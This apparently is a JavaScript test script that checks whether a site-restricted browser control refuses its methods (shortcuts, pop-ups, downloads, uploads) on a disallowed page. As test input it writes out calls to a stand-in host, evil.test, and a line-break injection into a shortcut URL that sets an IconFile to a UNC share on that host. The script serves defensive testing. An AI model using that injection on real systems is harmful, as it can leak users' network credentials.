// The control on a page of an allowed site (host.arg(0) is that site's
// address), which then navigates to host.arg(1) and finally back.
var base = host.arg(0);

function show(name, call) {
    try {
        host.print(name + ": ran " + call());
    } catch (e) {
        host.print(name + ": refused " + e.description);
    }
}

host.connect(ctl, "UpSelectComplete", function (path, size, mode) {
    host.print("event " + path);
});

host.print("at " + location.href);
show("SelectComplete", function () { return ctl.SelectComplete("on the allowed page", "1", "-1"); });
show("AllowPopUp", function () { return ctl.AllowPopUp("127.0.0.1"); });
show("MakeShortCut", function () { return ctl.MakeShortCut(base + "/first", "1"); });
show("AllowPopUp elsewhere", function () { return ctl.AllowPopUp("evil.test"); });
show("MakeShortCut elsewhere", function () { return ctl.MakeShortCut("http://evil.test/", "1"); });
show("MakeShortCut with a line break", function () {
    return ctl.MakeShortCut(base + "/\r\nIconFile=\\\\evil.test\\share\\x.ico", "1");
});

location.href = host.arg(1);
host.print("at " + location.href);
show("CheckInstall", function () { return ctl.CheckInstall(); });
show("DownLoad", function () { return ctl.DownLoad("user", "secret", "/a.txt|1"); });
show("AllowPopUp", function () { return ctl.AllowPopUp("127.0.0.1."); });
show("MakeShortCut", function () { return ctl.MakeShortCut(base + "/second", "1"); });
show("SelectComplete", function () { return ctl.SelectComplete("after navigating", "1", "-1"); });
show("ShowDlgFile", function () { return ctl.ShowDlgFile(); });
show("ShowDlgFolder", function () { return ctl.ShowDlgFolder(); });
show("UpLoad", function () { return ctl.UpLoad("user", "secret", "/a.txt|1"); });

location.assign(base + "/back");
show("SelectComplete", function () { return ctl.SelectComplete("back again", "1", "-1"); });
